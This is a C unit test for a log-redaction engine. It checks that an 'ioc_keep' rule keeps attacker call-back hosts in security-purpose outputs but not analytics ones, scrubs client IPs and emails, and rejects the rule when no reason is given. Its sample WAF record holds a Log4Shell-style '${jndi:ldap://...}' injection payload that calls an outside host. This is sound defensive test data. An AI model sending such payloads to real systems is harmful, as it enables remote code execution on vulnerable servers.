/*
 * At stake: where an attack calls home is what a security team blocks next, and the address of a
 * person is what nobody else may see. ioc_keep lets the first through and never the second, in no
 * other output than one for security, and not without a reason.
 */
#include "support/engine.h"

#include <check.h>

#define PACK(class, why)                                                                           \
    "{\"pack\":\"mine\",\"extends\":\"eu\",\"rules\":{\"" class "\":{\"value\":[{\"filter\":"      \
                                                                "\"scrub\",\"ioc_keep\":true}"     \
                                                                "]" why "}}}"
#define WHY ",\"why\":\"Call-back hosts are blocked at the border.\""

static const char config[] =
    "{\"inputs\":[{\"format\":\"aws-waf\",\"tenant\":{\"name\":\"acme\",\"region\":\"mine\"}}],"
    "\"regions\":[{\"from\":\"tenant\"}],\"packs\":{\"files\":[\"mine.json\"]},\"outputs\":["
    "{\"name\":\"soc\",\"purpose\":\"security\",\"annotate\":\"none\"},"
    "{\"name\":\"use\",\"purpose\":\"analytics\",\"annotate\":\"none\"}]}";

static const char record[] =
    "{\"httpRequest\":{\"clientIp\":\"192.0.2.7\",\"args\":\"x=198.51.100.9\"},"
    "\"terminatingRuleMatchDetails\":[{\"matchedData\":"
    "[\"${jndi:ldap://198.51.100.9/192.0.2.7/bob@example.com}\"]}]}";

START_TEST(only_outputs_for_security_keep_it)
{
    const struct engine_file file = {"mine.json", PACK("matched_payload", WHY)};
    struct engine engine = engine_config(config, &file, 1);
    const struct wv_results results = engine_run(&engine, wv_slice_of(record));
    ck_assert_uint_eq(results.count, 2);
    static const char *const payloads[] = {"${jndi:ldap://198.51.100.9/~IP.",
                                           "${jndi:ldap://~IP~/"};
    for (size_t i = 0; i < 2; i++) {
        char text[512];
        const struct wv_slice value = results.items[i].value;
        ck_assert_uint_lt(value.len, sizeof text);
        memcpy(text, value.ptr, value.len);
        text[value.len] = '\0';
        ck_assert_msg(strstr(text, payloads[i]) != NULL, "%s", text);
        ck_assert_msg(strstr(text, "192.0.2.7") == NULL, "%s", text);
        ck_assert_msg(strstr(text, "bob@") == NULL, "%s", text);
        ck_assert_msg(strstr(text, "x=~IP~") != NULL, "%s", text); /* no payload */
    }
    engine_fini(&engine);
}
END_TEST

static const struct {
    const char *pack;
    const char *finding;
} refused[] = {
    {PACK("matched_payload", ""), "ioc_keep needs a \"why\""},
    {PACK("free_text", WHY), "ioc_keep is for matched_payload only"},
};

START_TEST(needs_a_payload_and_a_reason)
{
    const struct engine_file file = {"mine.json", refused[_i].pack};
    struct wv_report *report = wv_report_new();
    ck_assert_ptr_null(engine_plan(config, &file, 1, report));
    char *text = NULL;
    size_t size = 0;
    FILE *stream = open_memstream(&text, &size);
    wv_report_print(report, stream);
    ck_assert_int_eq(fclose(stream), 0);
    ck_assert_msg(strstr(text, refused[_i].finding) != NULL, "%s", text);
    ck_assert_msg(strstr(text, "mine.json:1:") != NULL, "%s", text);
    free(text);
    wv_report_free(report);
}
END_TEST

int main(void)
{
    TCase *cases = tcase_create("ioc_keep");
    tcase_add_test(cases, only_outputs_for_security_keep_it);
    tcase_add_loop_test(cases, needs_a_payload_and_a_reason, 0, (int)WV_COUNT(refused));
    Suite *suite = suite_create("ioc_keep");
    suite_add_tcase(suite, cases);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    const int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed == 0 ? 0 : 1;
}
